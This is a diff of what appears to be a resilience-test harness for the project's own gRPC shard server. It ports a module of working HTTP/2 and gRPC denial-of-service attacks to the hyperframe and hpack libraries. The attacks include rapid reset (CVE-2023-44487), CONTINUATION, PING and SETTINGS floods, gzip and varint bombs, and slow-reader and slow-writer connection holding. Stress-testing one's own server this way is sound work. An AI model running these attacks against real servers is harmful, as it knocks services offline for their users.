@@ -5,6 +5,8 @@ attack goes on with a new connection when the server has closed one. Nobody read
 says, unless an attack is about reading.
 """
 
+from __future__ import annotations
+
 import contextlib
 import random
 import socket
@@ -12,10 +14,22 @@ import ssl
 import struct
 import time
 import zlib
+from collections import Counter
+from collections.abc import Callable, Sequence
 
-import http2
-from http2 import Frame
+import hpack
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+)
 
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+MAX_FRAME = 16384
+CANCEL = 8
 _SHARD = "/dslide.v1.ShardService/"
 _SEND_SECONDS = 2.0
 _BATCH = 64 * 1024
@@ -23,21 +37,25 @@ _BATCH = 64 * 1024
 CONTINUATION_BYTES = 64 << 20
 
 
+# Attacks a target until told that it is over; counts what it sends.
+Attack = Callable[["Target", Counter[str], Callable[[], bool]], None]
+
+
 class Target:
     """A server's port; `tls`: an ssl.SSLContext, None for plaintext."""
 
-    def __init__(self, address, tls=None):
+    def __init__(self, address: str, tls: ssl.SSLContext | None = None) -> None:
         host, _, port = address.rpartition(":")
         self._place = host, int(port)
         self._tls = tls
 
-    def tcp(self):
+    def tcp(self) -> socket.socket:
         """A connection over which nothing was said."""
         connection = socket.create_connection(self._place, timeout=_SEND_SECONDS)
         connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         return connection
 
-    def open(self):
+    def open(self) -> socket.socket:
         """A connection, encrypted where the port wants it. OSError when it is refused."""
         connection = self.tcp()
         if self._tls is None:
@@ -48,28 +66,38 @@ class Target:
             connection.close()
             raise
 
-    def http2(self, settings=None):
+    def http2(self, settings: dict[int, int] | None = None) -> socket.socket:
         """As open(), with HTTP/2's introduction said."""
         connection = self.open()
         try:
-            connection.sendall(http2.PREFACE + Frame(
-                http2.SETTINGS, 0, 0, http2.settings_payload(settings or {})).encode())
+            connection.sendall(PREFACE + SettingsFrame(0, settings or {}).serialize())
         except OSError:
             connection.close()
             raise
         return connection
 
 
-def _headers(method=_SHARD + "GetServerInfo", content_type="application/grpc", extra=()):
-    return http2.encode_headers([
+def _literals(headers: Sequence[tuple[str, str]]) -> bytes:
+    """A block that changes no table: sent again it is as long."""
+    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in headers],
+                                  huffman=False)
+
+
+def _opening(stream: int, block: bytes, *flags: str) -> bytes:
+    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags]).serialize()
+
+
+def _headers(method: str = _SHARD + "GetServerInfo", content_type: str = "application/grpc",
+             extra: Sequence[tuple[str, str]] = ()) -> bytes:
+    return _literals([
         (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
         ("te", "trailers"), ("content-type", content_type), *extra])
 
 
-def _again(body):
+def _again(body: Attack) -> Attack:
     """The attack `body(connection...)` again and again, over new connections."""
 
-    def attack(target, sent, over):
+    def attack(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
         while not over():
             try:
                 body(target, sent, over)
@@ -81,7 +109,9 @@ def _again(body):
     return attack
 
 
-def _flood(target, sent, over, what, chunk, settings=None, count=1, limit=None):
+def _flood(target: Target, sent: Counter[str], over: Callable[[], bool], what: str,
+           chunk: Callable[[], bytes], settings: dict[int, int] | None = None, count: int = 1,
+           limit: int | None = None) -> None:
     """Sends `chunk()` again and again over one connection."""
     with target.http2(settings) as connection:
         total = 0
@@ -97,27 +127,25 @@ def _flood(target, sent, over, what, chunk, settings=None, count=1, limit=None):
 
 
 @_again
-def rapid_reset(target, sent, over):
+def rapid_reset(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """Streams that are opened and reset at once (CVE-2023-44487)."""
     block = _headers()
     streams = iter(range(1, 1 << 31, 2))
 
-    def chunk():
+    def chunk() -> bytes:
         return b"".join(
-            Frame(http2.HEADERS, http2.END_HEADERS, stream, block).encode()
-            + Frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)).encode()
+            _opening(stream, block) + RstStreamFrame(stream, CANCEL).serialize()
             for stream in (next(streams) for _ in range(200)))
 
     _flood(target, sent, over, "streams", chunk, count=200)
 
 
 @_again
-def continuation_flood(target, sent, over):
+def continuation_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """A header block that never ends, 64 MiB a connection."""
     with target.http2() as connection:
-        connection.sendall(Frame(http2.HEADERS, 0, 1, _headers()).encode())
-        piece = http2.encode_headers([("x", "y" * 100)] * 150)
-        frame = Frame(http2.CONTINUATION, 0, 1, piece).encode()
+        connection.sendall(HeadersFrame(1, _headers()).serialize())
+        frame = ContinuationFrame(1, _literals([("x", "y" * 100)] * 150)).serialize()
         total = 0
         while not over() and total < CONTINUATION_BYTES:
             connection.sendall(frame * 4)
@@ -126,26 +154,24 @@ def continuation_flood(target, sent, over):
 
 
 @_again
-def ping_flood(target, sent, over):
+def ping_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """PINGs, which have to be answered."""
-    chunk = Frame(http2.PING, 0, 0, b"abcdefgh").encode() * 1000
+    chunk = PingFrame(0, b"abcdefgh").serialize() * 1000
     _flood(target, sent, over, "pings", lambda: chunk, count=1000)
 
 
 @_again
-def settings_flood(target, sent, over):
+def settings_flood(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """SETTINGS, which have to be confirmed."""
-    chunk = Frame(http2.SETTINGS, 0, 0, http2.settings_payload(
-        {http2.SETTINGS_INITIAL_WINDOW_SIZE: 65535})).encode() * 1000
+    chunk = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 1000
     _flood(target, sent, over, "settings", lambda: chunk, count=1000)
 
 
 @_again
-def empty_frames(target, sent, over):
+def empty_frames(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """DATA frames without data, on a stream that stays open."""
-    first = Frame(http2.HEADERS, http2.END_HEADERS, 1, _headers(_SHARD + "Scatter")).encode()
-    parts = iter([first])
-    chunk = Frame(http2.DATA, 0, 1, b"").encode() * 1000
+    parts = iter([_opening(1, _headers(_SHARD + "Scatter"))])
+    chunk = DataFrame(1).serialize() * 1000
     _flood(target, sent, over, "frames", lambda: next(parts, chunk), count=1000)
 
 
@@ -153,24 +179,24 @@ def empty_frames(target, sent, over):
 
 
 @_again
-def bad_preface(target, sent, over):
+def bad_preface(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """Bytes of no protocol, and another protocol's."""
     source = random.Random(sent["connections"])
     with target.open() as connection:
         connection.sendall(source.choice((source.randbytes(4096), b"GET / HTTP/1.1\r\n\r\n",
-                                          http2.PREFACE[:-1] + b"x" * 100)))
+                                          PREFACE[:-1] + b"x" * 100)))
         sent["connections"] += 1
         connection.recv(1)
 
 
 @_again
-def wrong_content_type(target, sent, over):
+def wrong_content_type(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """Calls that are no gRPC calls, 50 a connection."""
     with target.http2() as connection:
         for stream in range(1, 101, 2):
-            connection.sendall(Frame(
-                http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
-                _headers(content_type=("text/plain", "", "application/json")[stream % 3])).encode())
+            connection.sendall(_opening(
+                stream, _headers(content_type=("text/plain", "", "application/json")[stream % 3]),
+                "END_STREAM"))
             sent["calls"] += 1
         time.sleep(0.02)
 
@@ -178,17 +204,19 @@ def wrong_content_type(target, sent, over):
 # --- messages ------------------------------------------------------------------------------------
 
 
-def _call(connection, stream, method, body, extra=()):
+def _call(connection: socket.socket, stream: int, method: str, body: bytes,
+          extra: Sequence[tuple[str, str]] = ()) -> None:
     """A call with a body of at most a window, its end included."""
-    data = Frame(http2.HEADERS, http2.END_HEADERS, stream, _headers(method, extra=extra)).encode()
-    for at in range(0, len(body), http2.DEFAULT_MAX_FRAME):
-        part = body[at:at + http2.DEFAULT_MAX_FRAME]
+    data = _opening(stream, _headers(method, extra=extra))
+    for at in range(0, len(body), MAX_FRAME):
+        part = body[at:at + MAX_FRAME]
         last = at + len(part) == len(body)
-        data += Frame(http2.DATA, http2.END_STREAM if last else 0, stream, part).encode()
+        data += DataFrame(stream, part, flags=["END_STREAM"] if last else []).serialize()
     connection.sendall(data)
 
 
-def _calls(target, sent, over, method, body, extra=()):
+def _calls(target: Target, sent: Counter[str], over: Callable[[], bool], method: str, body: bytes,
+           extra: Sequence[tuple[str, str]] = ()) -> None:
     """The same call, some times a connection; windows of 64 KiB are not waited for."""
     with target.http2() as connection:
         for stream in range(1, 41, 2):
@@ -199,18 +227,18 @@ def _calls(target, sent, over, method, body, extra=()):
             time.sleep(0.002)
 
 
-def _prefixed(message, compressed=0):
+def _prefixed(message: bytes, compressed: int = 0) -> bytes:
     return struct.pack(">BI", compressed, len(message)) + message
 
 
 @_again
-def giant_length(target, sent, over):
+def giant_length(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """Messages that claim to have 2 GiB or 4 GiB, and begin."""
     said = (0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)[sent["calls"] % 3]
     _calls(target, sent, over, _SHARD + "Scatter", struct.pack(">BI", 0, said) + bytes(1000))
 
 
-def _gzip(plain):
+def _gzip(plain: bytes) -> bytes:
     packer = zlib.compressobj(1, zlib.DEFLATED, 31)
     return packer.compress(plain) + packer.flush()
 
@@ -219,20 +247,20 @@ _BOMB = _gzip(bytes(16 << 20))
 
 
 @_again
-def compressed_bomb(target, sent, over):
+def compressed_bomb(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """16 MiB of zeros in 70 KiB of gzip."""
     _calls(target, sent, over, _SHARD + "CreateModel", _prefixed(_BOMB, compressed=1),
            [("grpc-encoding", "gzip")])
 
 
 @_again
-def deep_nesting(target, sent, over):
+def deep_nesting(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """10,000 groups within each other."""
     _calls(target, sent, over, _SHARD + "Hello", _prefixed(b"\x7b" * 10_000 + b"\x7c" * 10_000))
 
 
 @_again
-def varint_bomb(target, sent, over):
+def varint_bomb(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """Numbers that do not end, where a method wants a message of its own."""
     method = (_SHARD + "Hello", _SHARD + "Step", _SHARD + "Gather")[sent["calls"] % 3]
     _calls(target, sent, over, method, _prefixed(b"\x18" + b"\xff" * 30_000))
@@ -241,9 +269,10 @@ def varint_bomb(target, sent, over):
 # --- slow peers ----------------------------------------------------------------------------------
 
 
-def _hold(target, over, opening, count, sent):
+def _hold(target: Target, over: Callable[[], bool], opening: Callable[[Target], socket.socket],
+          count: int, sent: Counter[str]) -> None:
     """Opens `count` connections by `opening` and keeps them; those that are closed are replaced."""
-    held = []
+    held: list[socket.socket] = []
     with contextlib.ExitStack() as stack:
         while not over():
             if len(held) < count:
@@ -257,15 +286,15 @@ def _hold(target, over, opening, count, sent):
                 time.sleep(0.05)
 
 
-def idle_sockets(target, sent, over):
+def idle_sockets(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """1,000 connections that say nothing."""
     _hold(target, over, Target.tcp, 1000, sent)
 
 
-def half_open_handshakes(target, sent, over):
+def half_open_handshakes(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """200 connections that begin to introduce themselves, and do not go on."""
 
-    def opening(target):
+    def opening(target: Target) -> socket.socket:
         connection = target.tcp()
         # The head of a TLS handshake record, which is a beginning of nothing without TLS, too.
         connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
@@ -275,17 +304,16 @@ def half_open_handshakes(target, sent, over):
 
 
 @_again
-def slow_writer(target, sent, over):
+def slow_writer(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """50 connections with a message each that comes one byte at a time."""
     with contextlib.ExitStack() as stack:
         held = [stack.enter_context(target.http2()) for _ in range(50)]
         for connection in held:
-            connection.sendall(Frame(http2.HEADERS, http2.END_HEADERS, 1,
-                                     _headers(_SHARD + "Scatter")).encode())
+            connection.sendall(_opening(1, _headers(_SHARD + "Scatter")))
         message = _prefixed(bytes(4 << 10))
         for byte in message:
             for connection in held:
-                connection.sendall(Frame(http2.DATA, 0, 1, bytes([byte])).encode())
+                connection.sendall(DataFrame(1, bytes([byte])).serialize())
                 sent["bytes"] += 1
             if over():
                 return
@@ -293,22 +321,22 @@ def slow_writer(target, sent, over):
 
 
 @_again
-def slow_reader(target, sent, over):
+def slow_reader(target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """50 connections with 60 calls each whose answers are not read, in windows of one byte."""
     with contextlib.ExitStack() as stack:
-        held = [stack.enter_context(target.http2({http2.SETTINGS_INITIAL_WINDOW_SIZE: 1}))
+        held = [stack.enter_context(target.http2({SettingsFrame.INITIAL_WINDOW_SIZE: 1}))
                 for _ in range(50)]
         for connection in held:
             connection.sendall(b"".join(
-                Frame(http2.HEADERS, http2.END_HEADERS, stream, _headers()).encode()
-                + Frame(http2.DATA, http2.END_STREAM, stream, _prefixed(b"")).encode()
+                _opening(stream, _headers())
+                + DataFrame(stream, _prefixed(b""), flags=["END_STREAM"]).serialize()
                 for stream in range(1, 121, 2)))
             sent["calls"] += 60
         while not over():
             time.sleep(0.1)
 
 
-def busy_neighbour(_target, sent, over):
+def busy_neighbour(_target: Target, sent: Counter[str], over: Callable[[], bool]) -> None:
     """No attack: computes beside the server, as the attacks do."""
     while not over():
         sent["rounds"] += sum(range(1000)) > 0
